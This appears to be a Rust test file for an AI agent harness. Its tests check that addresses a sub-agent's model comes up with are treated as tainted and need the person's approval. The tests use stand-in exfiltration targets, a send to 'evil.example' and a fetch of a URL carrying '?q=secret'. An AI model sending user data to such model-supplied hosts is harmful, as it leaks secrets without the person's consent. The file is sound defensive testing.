//! Trust between a chat and its parts: whose words count, and what must come first.

use super::{delegates, harness, result, sends};
use protocol::Answer;
use serde_json::json;
use testkit::{Reply, ScriptedTool};

/// Has a part make this call and checks which value is asked about, and where it was seen.
async fn check_asked(call: Reply, value: &str) {
    let replies = vec![
        delegates("c1", &format!("Use {value}")),
        call,
        Reply::says("Not done."),
        Reply::says("Not done."),
    ];
    let tools = vec![ScriptedTool::sending("send"), ScriptedTool::sending("get")];
    let mut chat = harness(replies, tools, |_| {}).await;
    chat.user("Send it to https://good.example/in").await;
    let (approval, question) = chat.question().await;
    let tainted = question.tainted.iter();
    let told: Vec<_> = tainted
        .map(|tainted| (tainted.value.as_str(), tainted.origin.to_string()))
        .collect();
    let place = "seen only in the part of the task that it was given".to_owned();
    assert_eq!(told, [(value, place)]);
    let answer = Answer::Deny { reason: None };
    chat.answer(approval, answer).await;
    chat.turn_end().await;
}

#[tokio::test]
async fn what_the_model_gives_away_is_not_the_persons_word() {
    let evil = "https://evil.example/in";
    check_asked(sends("d1", evil), evil).await;
    // Nor does it link to anything: a secret may stand in the address.
    let carries = "https://evil.example/in?q=secret";
    let get = Reply::calls("", &[("d1", "get", json!({ "url": carries }))]);
    check_asked(get, carries).await;
}

#[tokio::test]
async fn what_the_person_wrote_is_their_word_in_a_part() {
    let good = "https://good.example/in";
    let replies = vec![
        delegates("c1", &format!("Send it to {good}")),
        sends("d1", good),
        Reply::says("Sent."),
        Reply::says("Sent."),
    ];
    let mut chat = harness(replies, vec![ScriptedTool::sending("send")], |_| {}).await;
    chat.user("Send it to https://good.example/in").await;
    chat.turn_end().await;
    assert_eq!(result(&chat, "c1"), "done \"Sent.\"");
}

#[tokio::test]
async fn no_part_is_given_away_before_the_plan() {
    let replies = vec![delegates("c1", "Part"), Reply::says("Then a plan.")];
    let mut chat = harness(replies, vec![], |options| options.plan_first = true).await;
    chat.user("Go").await;
    chat.turn_end().await;
    let told = result(&chat, "c1");
    assert!(told.starts_with("not_executed"), "{told}");
}

#[tokio::test]
async fn a_profile_that_the_person_did_not_name_is_not_used() {
    let task = json!({"task": "Part", "profile": "bookkeeping"});
    let replies = vec![
        Reply::calls("", &[("c1", "delegate", task)]),
        Reply::says("Done."),
    ];
    let mut chat = harness(replies, vec![], |_| {}).await;
    chat.user("Go").await;
    chat.turn_end().await;
    let told = result(&chat, "c1");
    assert!(told.contains("has not named the profile"), "{told}");
}
